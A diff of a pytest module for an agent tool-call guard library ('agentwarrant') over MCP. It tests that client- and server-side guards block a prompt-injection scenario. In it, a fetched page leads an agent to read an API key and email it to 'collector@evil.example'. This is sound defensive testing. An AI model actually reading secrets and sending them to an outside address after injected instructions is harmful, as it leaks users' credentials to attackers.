@@ -1,24 +1,44 @@
-"""MCP: a real in-process MCP server (the `mcp` package), guarded on the client and server side."""
+"""MCP: a real in-process MCP server (the `mcp` package), guarded on the client and server side.
+
+CI runs this module on the newest mcp 2.x (`MCPServer`, `Client`, middleware) and, in a venv
+of its own, on the newest 1.x (`FastMCP`, `ClientSession`, no middleware): the adapter holds
+on every version it accepts."""
 
 from __future__ import annotations
 
-from typing import Any
+import json
+from typing import Any, AsyncContextManager
 
 import pytest
 
 pytest.importorskip("mcp")
-
-from mcp import Client
-from mcp.server.mcpserver import MCPServer
 
 import agentwarrant as aw
 from agentwarrant.integrations.mcp import GuardMiddleware, guard_client, guard_server
 
 from conftest import INJECTED_PAGE, SCRIPT_DECIDED, STORY_TOOLS, decided, explode, sent, story_specs
 
+try:  # mcp 2.x
+    from mcp import Client
+    from mcp.server.mcpserver import MCPServer as Server
 
-def make_server(**options: Any) -> MCPServer:
-    server = MCPServer("research", **options)
+    MCP2 = True
+
+    def connect(server: Any) -> AsyncContextManager[Any]:
+        return Client(server)
+
+except ImportError:  # mcp 1.x
+    from mcp.server.fastmcp import FastMCP as Server  # type: ignore[no-redef]
+    from mcp.shared.memory import create_connected_server_and_client_session
+
+    MCP2 = False
+
+    def connect(server: Any) -> AsyncContextManager[Any]:
+        return create_connected_server_and_client_session(server._mcp_server)
+
+
+def make_server(**options: Any) -> Any:
+    server = Server("research", **options)
     for tool in STORY_TOOLS:
         server.tool()(tool)
     return server
@@ -28,65 +48,107 @@ def text(result: Any) -> str:
     return "".join(getattr(c, "text", "") for c in result.content)
 
 
+def is_error(result: Any) -> bool:
+    """What the host sees on the wire: `isError` of the result's JSON."""
+    return bool(json.loads(result.model_dump_json(by_alias=True)).get("isError"))
+
+
 async def test_client_side_guard_stops_the_injected_instruction(story_guard, researcher, goal):
     sent.clear()
-    async with Client(make_server()) as client:
+    async with connect(make_server()) as client:
         tools = await guard_client(client, story_guard, specs=story_specs())
         async with story_guard.task(researcher, goal):
             page = await tools.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
-            assert text(page) == INJECTED_PAGE and not page.is_error
+            assert text(page) == INJECTED_PAGE and not is_error(page)
             key = await tools.call_tool("read_secret", {"path": "openai/api-key"})
             mail = await tools.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
             ok = await tools.call_tool("send_email", {"to": "alice@acme.com", "body": "summary"})
-    assert key.is_error and "secret_access" in text(key)
-    assert mail.is_error and "untrusted_input" in text(mail) and "collector@evil.example" not in text(mail)
-    assert not ok.is_error and sent == ["alice@acme.com"]
+    assert is_error(key) and "secret_access" in text(key)
+    assert is_error(mail) and "untrusted_input" in text(mail) and "collector@evil.example" not in text(mail)
+    assert not is_error(ok) and sent == ["alice@acme.com"]
     assert decided(story_guard.ledger) == SCRIPT_DECIDED
 
 
-async def test_server_middleware_guards_every_tools_call(story_guard, researcher, goal):
+async def test_server_side_guards_every_tools_call_and_refusals_reach_the_host_as_errors(story_guard, researcher, goal):
     sent.clear()
     server = make_server()
-    middleware = guard_server(server, story_guard, specs=story_specs())
     async with story_guard.task(researcher, goal) as task:
-        middleware.task = task  # a fixed task (a callable `(ctx) -> Task` works too)
-        async with Client(server) as client:
+        guard_server(server, story_guard, specs=story_specs(), task=task)
+        async with connect(server) as client:
             await client.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
             mail = await client.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
             listed = await client.list_tools()
-    assert mail.is_error and "untrusted_input" in text(mail)
+    assert is_error(mail) and "untrusted_input" in text(mail)
     assert sent == []
     assert {t.name for t in listed.tools} == {"fetch_page", "read_secret", "send_email"}
     assert decided(story_guard.ledger) == [("fetch_page", "allowed"), ("send_email", "approval_denied")]
 
 
-async def test_middleware_passed_at_construction_uses_the_current_task(story_guard, researcher, goal):
+async def test_guard_server_without_a_task_is_refused_at_wrap_time(story_guard):
+    with pytest.raises(aw.ConfigError, match="identity=") as caught:
+        guard_server(make_server(), story_guard, specs=story_specs())
+    assert caught.value.code == "no_task"
+
+
+async def test_guard_server_with_identity_and_intent_runs_a_task_per_client_connection(story_guard, researcher, goal):
     sent.clear()
-    middleware = GuardMiddleware(story_guard, specs=story_specs(), tool_names=["fetch_page", "read_secret", "send_email"])
+    server = make_server()
+    guard_server(server, story_guard, specs=story_specs(), identity=researcher, intent=goal)
+    # No `with guard.task(...)` anywhere: the server begins a task for each client connection.
+    async with connect(server) as client:
+        ok = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
+        drift = await client.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
+    assert not is_error(ok) and sent == ["alice@acme.com"]
+    assert is_error(drift) and "scope_drift" in text(drift)
+    begun = [r for r in story_guard.ledger.records() if r["kind"] == "task.begun"]
+    assert begun and all(r["identity"] == researcher.id for r in begun)
+    if not MCP2:  # a 1.x session is one connection: one task, its calls chained
+        assert len(begun) == 1
+
+
+async def test_guard_server_current_uses_the_task_current_where_the_server_runs(story_guard, researcher, goal):
+    sent.clear()
+    server = make_server()
+    guard_server(server, story_guard, specs=story_specs(), task="current")
+    async with connect(server) as client:  # no task current: refused, as an error result
+        refused = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
+    assert is_error(refused) and "no agentwarrant task" in text(refused) and sent == []
+    async with story_guard.task(researcher, goal):
+        async with connect(server) as client:
+            result = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
+    assert not is_error(result) and sent == ["alice@acme.com"]
+
+
+@pytest.mark.skipif(not MCP2, reason="server middleware is an mcp 2.x feature")
+async def test_middleware_passed_at_construction(story_guard, researcher, goal):
+    sent.clear()
+    middleware = GuardMiddleware(
+        story_guard, specs=story_specs(), tool_names=["fetch_page", "read_secret", "send_email"], task="current"
+    )
     server = make_server(middleware=[middleware])
     async with story_guard.task(researcher, goal):
-        async with Client(server) as client:
+        async with connect(server) as client:
             result = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
-    assert not result.is_error and sent == ["alice@acme.com"]
+    assert not is_error(result) and sent == ["alice@acme.com"]
 
 
 async def test_unguarded_server_tools_fail_at_wrap_time(story_guard):
     server = make_server()
     with pytest.raises(aw.UnguardedToolError) as error:
-        guard_server(server, story_guard, specs={"fetch_page": story_specs()["fetch_page"]})
+        guard_server(server, story_guard, specs={"fetch_page": story_specs()["fetch_page"]}, task="current")
     assert sorted(error.value.tools) == ["read_secret", "send_email"]
-    async with Client(make_server()) as client:
+    async with connect(make_server()) as client:
         with pytest.raises(aw.UnguardedToolError, match="`read_secret`"):
             await guard_client(client, story_guard, specs=[story_specs()["fetch_page"], story_specs()["send_email"]])
 
 
 async def test_tool_errors_are_recorded_as_outcomes(story_guard, researcher, goal):
-    server = MCPServer("broken")
+    server = Server("broken")
     server.tool()(explode)
-    async with Client(server) as client:
+    async with connect(server) as client:
         tools = await guard_client(client, story_guard, default=aw.ToolSpec("any", impact="low"))
         async with story_guard.task(researcher, goal):
             result = await tools.call_tool("explode", {"reason": "x"})
-    assert result.is_error
+    assert is_error(result)
     completed = [r for r in story_guard.ledger.records() if r["kind"] == "call.completed"]
     assert completed[-1]["outcome"]["status"] == "error"
